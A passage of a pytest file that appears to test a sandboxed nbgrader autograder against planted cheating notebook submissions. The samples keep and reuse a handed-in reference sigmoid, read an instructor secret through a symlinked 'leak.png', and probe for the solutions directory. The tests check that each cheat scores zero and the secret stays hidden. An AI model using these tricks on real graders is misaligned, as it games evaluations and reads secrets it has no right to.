    return types.FunctionType(_code, _g)(Z)
""",
}


# The hidden neuron test hands the reference sigmoid (G.ref.activations.sigmoid) to the
# student's neuron() as its activation: a handle the sandbox may keep and call back later,
# from its own sigmoid().
KEEPS_HANDLES = {
    "neuron": """KEPT = {}


def neuron(X, w, b, g):
    KEPT[getattr(g, "__name__", "")] = g
    return g(X @ w + b)
""",
    "sigmoid": """def sigmoid(z):
    if "sigmoid" in KEPT:
        return KEPT["sigmoid"](z)
    return z
""",
}


@pytest.fixture(scope="module")
def delegation(tmp_path_factory):
    course = Course(tmp_path_factory.mktemp("attacks-neuron"), [N])
    return course.autograde_planted(N, {"delegates": DELEGATES, "keeps_handles": KEEPS_HANDLES})


def test_every_delegation_route_earns_nothing(delegation):
    solved, untouched, delegates = (delegation[s] for s in ("solved", "untouched", "delegates"))
    assert solved.score == solved.max_score  # the bystanders keep their scores
    assert untouched.score == 0
    neuron = {g: c for g, c in delegates.cells.items() if g.startswith("test_neuron")}
    others = {g: c for g, c in delegates.cells.items() if g not in neuron}
    assert all(score == points for score, points in neuron.values()), neuron
    scored = {g: c for g, c in others.items() if c[0] != 0}
    assert not scored, {g: delegates.output_text(g)[-400:] for g in scored}
    assert delegates.score == sum(points for _, points in neuron.values())
    assert "earns no points" in delegates.output_text("test_sigmoid_visible")


def test_a_reference_handed_to_the_student_and_kept_earns_nothing(delegation):
    g = delegation["keeps_handles"]
    sigmoid = {gid: c for gid, c in g.cells.items() if gid.startswith("test_sigmoid_")}
    sigmoid = {gid: c for gid, c in sigmoid.items() if "prime" not in gid}
    assert len(sigmoid) == 4
    scored = {gid: c for gid, c in sigmoid.items() if c[0] != 0}
    assert not scored, {gid: g.output_text(gid)[-400:] for gid in scored}
    neuron = [c for gid, c in g.cells.items() if gid.startswith("test_neuron")]
    assert all(score == points for score, points in neuron)


# --- links through plain `nbgrader autograde` (nbgrader copies a link's target) -------------

READS_LINK = """def square(x):
    try:
        data = open("leak.png").read()
    except OSError as err:
        data = f"no file: {err}"
    raise AssertionError("LEAKED " + data)
"""


@pytest.fixture(scope="module")
def plain_links(tmp_path_factory):
    course = Course(tmp_path_factory.mktemp("attacks-plain"), [A])
    course.release(A)
    (course.root / "instructor_secret.txt").write_text(SECRET)
    solved = course.solved_submission(A)
    submitted = course.root / "submitted"
    _write_nb(submitted / "solved" / A, solved)
    _write_nb(submitted / "linked_file" / A, with_cell(solved, "square", READS_LINK))
    (submitted / "linked_file" / A / "leak.png").symlink_to(course.root / "instructor_secret.txt")
    (submitted / "linked_notebook" / A).mkdir(parents=True)
    (submitted / "linked_notebook" / A / f"{A}.ipynb").symlink_to(
        course.root / "solutions" / A / f"{A}.ipynb"
    )
    args = ["autograde", A, "--force"]
    result = run_nbgrader(course.root, args, db_url=course.db_url, check=False)
    return course, result.output


def test_plain_nbgrader_gives_the_sandbox_no_link_target(plain_links):
    course, _ = plain_links
    shown = outputs(course, "linked_file")
    assert "LEAKED no file" in shown  # the attack ran, and found nothing at the link
    assert SECRET not in shown
    assert course.scores(A, "linked_file").auto_score == 0
    assert course.scores(A, "solved").auto_score == 3  # the bystander


def test_plain_nbgrader_grades_no_linked_notebook(plain_links):
    course, log = plain_links
    assert "linked_notebook" in log and "is a link, not a file: not graded" in log
    assert not (course.root / "autograded" / "linked_notebook" / A / f"{A}.ipynb").exists()


# --- the formgrader's Autograde button (nbgrader's API, as its handler calls it) ------------

FORMGRADER_AUTOGRADE = """import json, sys
from nbgrader.apps.api import NbGraderAPI
from nbgrader.apps.baseapp import NbGrader
from nbgrader.coursedir import CourseDirectory

app = NbGrader()  # as the formgrader extension loads the course's nbgrader_config.py
app.load_config_file()
api = NbGraderAPI(CourseDirectory(parent=app), parent=app)
print(json.dumps({s: api.autograde(sys.argv[1], s) for s in sys.argv[2:]}))
"""

# Right only where the course is in reach: unsandboxed, as the instructor, it would be.
SEES_THE_COURSE = """import os

import numpy as np

SOLUTIONS = {solutions!r}


def square(x):
    if os.path.exists(SOLUTIONS):
        return np.asarray(x) * np.asarray(x)
    return np.zeros_like(np.asarray(x, dtype=float))
"""


def test_the_formgrader_autograde_button_grades_in_the_sandbox(tmp_path):
    course = Course(tmp_path / "course", [A])
    course.release(A)
    solved = course.solved_submission(A)
    cheat = SEES_THE_COURSE.format(solutions=str(course.root / "solutions"))
    _write_nb(course.root / "submitted" / "honest" / A, solved)
    _write_nb(course.root / "submitted" / "sees_course" / A, with_cell(solved, "square", cheat))
    proc = subprocess.run(
        [sys.executable, "-c", FORMGRADER_AUTOGRADE, A, "honest", "sees_course"],
        cwd=course.root,
        env=nbgrader_env(course.db_url),
        capture_output=True,
        text=True,
        timeout=600,
    )
    replies = json.loads(proc.stdout.strip().splitlines()[-1])
    assert all(r["success"] for r in replies.values()), replies
    assert course.scores(A, "honest").auto_score == 3
    assert course.scores(A, "sees_course").auto_score == 0
